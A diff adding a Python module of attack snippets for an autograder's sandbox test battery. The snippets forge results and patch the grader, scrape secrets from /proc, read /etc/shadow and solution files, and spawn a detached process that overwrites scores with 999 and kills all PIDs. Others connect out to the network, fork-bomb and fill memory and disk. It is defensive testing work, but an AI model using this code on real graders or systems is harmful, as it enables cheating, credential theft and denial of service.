@@ -1,0 +1,217 @@
+"""Hostile code for the autograder's battery (test_hostile.py): each attack is rank code that a
+submission runs before giving a wrong answer, and prints what it achieved as ATTACK-<KIND>: lines.
+
+An attack never raises (a wrong answer follows it), and never damages anything when it succeeds:
+it proves write access by opening a file for append and writing nothing, or by creating and
+removing a canary file, and proves read access by printing the path it read.
+"""
+
+# Every snippet is indented into a student region by submissions.insert_after_marker, so each is a
+# function body that ends by returning the unchanged (wrong) x. attack(SNIPPET, root=..., port=...)
+# fills in the kit's path (an attacker can guess it) and a port the test listens on.
+
+
+def attack(name: str, root: str = "", port: int = 9, ending: str = "return x") -> str:
+    """The snippet called `name`, filled in, then `ending` (the wrong answer it gives)."""
+    snippet = globals()[name]
+    code = snippet.replace("__ROOT__", repr(root)).replace("__PORT__", str(port)).replace("__NAME__", repr(name))
+    return code + ending + "\n"
+
+PRELUDE = '''
+import glob as _g, json as _j, os as _o, socket as _s, subprocess as _sp, sys as _y, time as _t
+_root = __ROOT__
+_guess = _o.path.dirname(_y.prefix)
+def _say(kind, what):
+    print(f"ATTACK-{kind}: {what}", flush=True)
+'''
+
+# forge records, find the results file through /proc, patch comparison functions and the grader
+FORGE = PRELUDE + '''
+_paths = set(_g.glob("/tmp/**/*.jsonl", recursive=True)) | set(_g.glob("/tmp/**/results*.json", recursive=True))
+for _fd in _g.glob("/proc/*/fd/*"):
+    try:
+        _paths.add(_o.readlink(_fd))
+    except OSError:
+        pass
+for _env in _g.glob("/proc/*/environ"):
+    try:
+        for _kv in open(_env, "rb").read().split(b"\\0"):
+            if _kv.startswith((b"AUTOGRADER_RESULTS=", b"AUTOGRADER_NONCE=")):
+                _say("SECRET", _kv.decode())
+                _paths.add(_kv.split(b"=", 1)[1].decode())
+    except OSError:
+        pass
+for _p in sorted(_paths):
+    if _p.endswith((".jsonl", ".json")):
+        try:
+            with open(_p, "a"):
+                _say("FORGED", _p)
+        except OSError:
+            pass
+import torch as _torch
+_torch.equal = lambda *a, **k: True
+_torch.allclose = lambda *a, **k: True
+for _name, _mod in list(_y.modules.items()):
+    if _name.startswith(("autograder", "assignments", "hw1_", "rank_runs", "_pytest", "pytest")):
+        for _attr in list(vars(_mod)):
+            if callable(getattr(_mod, _attr, None)) and not _attr.startswith("__"):
+                try:
+                    setattr(_mod, _attr, lambda *a, **k: None)
+                except Exception:
+                    pass
+_say("DONE", __NAME__)
+'''
+
+# edit the hidden tests, the grader's kit copy, the pristine kit (through any link) and the venv
+EDIT = PRELUDE + '''
+_targets = set()
+for _base in {_root, _guess}:
+    for _sub in ("autograder", "solutions", "assignments", "minitorch_dist", "tests", "tools", ".git"):
+        _targets |= set(_g.glob(f"{_base}/{_sub}/**", recursive=True))
+    _targets |= set(_g.glob(f"{_base}/.venv/lib/python*/site-packages/*"))
+for _pattern in ("/tmp/autograder-*/**", "/tmp/pytest-of-*/**", f"{_o.getcwd()}/**"):
+    _targets |= set(_g.glob(_pattern, recursive=True))
+for _pid in _g.glob("/proc/*/cwd"):
+    try:
+        _targets |= set(_g.glob(_o.readlink(_pid) + "/**/*.py", recursive=True))
+    except OSError:
+        pass
+for _p in sorted(_targets):
+    try:
+        if _o.path.isdir(_p) and not _o.path.islink(_p):
+            _c = _o.path.join(_p, ".hostile_canary")
+            _fd = _o.open(_c, _o.O_CREAT | _o.O_EXCL | _o.O_WRONLY, 0o600)
+            _o.close(_fd)
+            _o.unlink(_c)
+            _say("WROTE", _p + "/")
+        elif _o.path.isfile(_p):
+            _fd = _o.open(_p, _o.O_WRONLY | _o.O_APPEND)
+            _o.close(_fd)
+            _say("WROTE", _p)
+    except OSError:
+        pass
+_say("DONE", __NAME__)
+'''
+
+# read hidden tests, solutions, the grader's copies, other gradings and /etc/shadow
+READ = PRELUDE + '''
+_secret = ["/etc/shadow"]
+for _base in {_root, _guess}:
+    _secret += [f"{_base}/solutions/minitorch_dist/collectives/all_reduce.py", f"{_base}/autograder/grade.py"]
+    _secret += _g.glob(f"{_base}/autograder/**/*.py", recursive=True)
+    _secret += _g.glob(f"{_base}/solutions/**/*.py", recursive=True)
+_secret += _g.glob("/tmp/autograder-kit-*/**/*.py", recursive=True) + _g.glob("/tmp/autograder-run-*/*")
+for _p in _g.glob("/tmp/autograder-student-*"):
+    if not _o.getcwd().startswith(_p):
+        _secret += _g.glob(_p + "/**/*.py", recursive=True)
+for _p in sorted(set(_secret)):
+    try:
+        with open(_p, "rb") as _f:
+            _f.read(64)
+        _say("READ", _p)
+    except OSError:
+        pass
+_say("DONE", __NAME__)
+'''
+
+# leave a process with an empty environment in a new session that rewrites results later
+ESCAPE = PRELUDE + '''
+_code = """
+import glob, os, signal, time
+time.sleep(4)
+for p in glob.glob('/tmp/**/results*.json', recursive=True) + glob.glob('/tmp/pytest-of-*/**/*.json', recursive=True):
+    try:
+        open(p, 'w').write('{"score": 999}')
+    except OSError:
+        pass
+for pid in range(2, 100000):
+    try:
+        os.kill(pid, signal.SIGKILL)
+    except OSError:
+        pass
+"""
+try:
+    _sp.Popen([_y.executable, "-c", _code], env={}, start_new_session=True, stdin=_sp.DEVNULL,
+              stdout=_sp.DEVNULL, stderr=_sp.DEVNULL, close_fds=True)
+    _say("SPAWNED", "a sleeper with an empty environment")
+except OSError as _e:
+    _say("NOSPAWN", _e)
+_say("DONE", __NAME__)
+'''
+
+# reach the network beyond loopback, and a port the test opened outside the sandbox
+NETWORK = PRELUDE + '''
+for _host, _port in [("1.1.1.1", 53), ("10.255.255.1", 80), ("127.0.0.1", __PORT__)]:
+    try:
+        _c = _s.create_connection((_host, _port), timeout=2)
+        _c.sendall(b"hello from the sandbox")
+        _c.close()
+        _say("CONNECTED", f"{_host}:{_port}")
+    except OSError:
+        pass
+_say("DONE", __NAME__)
+'''
+
+# resources: memory, processes, disk
+MEMORY = PRELUDE + '''
+import torch as _torch
+_big = _torch.empty(int(8e9), dtype=_torch.uint8)
+_big.fill_(1)
+_say("DONE", __NAME__)
+'''
+
+PROCESSES = PRELUDE + '''
+_kids = 0
+try:
+    for _ in range(5000):
+        _pid = _o.fork()
+        if _pid == 0:
+            _t.sleep(120)
+            _o._exit(0)
+        _kids += 1
+finally:
+    _say("FORKED", _kids)
+_say("DONE", __NAME__)
+'''
+
+DISK = PRELUDE + '''
+with open(_o.path.join(_o.environ.get("TMPDIR", "."), "big.bin"), "wb") as _f:
+    _chunk = b"\\0" * (1 << 20)
+    for _ in range(1024):
+        _f.write(_chunk)
+_say("DONE", __NAME__)
+'''
+
+# for ten seconds: try to edit every other grading's kit copies and poke every listening port
+SABOTAGE = PRELUDE + '''
+_mine = _o.getcwd()
+_end = _t.time() + 10
+while _t.time() < _end:
+    for _p in _g.glob("/tmp/autograder-*/**/*.py", recursive=True):
+        if _p.startswith(_mine):
+            continue
+        try:
+            _fd = _o.open(_p, _o.O_WRONLY | _o.O_APPEND)
+            _o.close(_fd)
+            _say("WROTE", _p)
+        except OSError:
+            pass
+    try:
+        _lines = open("/proc/net/tcp").read().splitlines()[1:]
+    except OSError:
+        _lines = []
+    for _line in _lines:
+        _f = _line.split()
+        if _f[3] != "0A":                      # LISTEN
+            continue
+        _port = int(_f[1].split(":")[1], 16)
+        try:
+            _c = _s.create_connection(("127.0.0.1", _port), timeout=0.2)
+            _c.sendall(b"\\xff" * 64)
+            _c.close()
+            _say("POKED", _port)
+        except OSError:
+            pass
+    _t.sleep(0.5)
+_say("DONE", __NAME__)
+'''
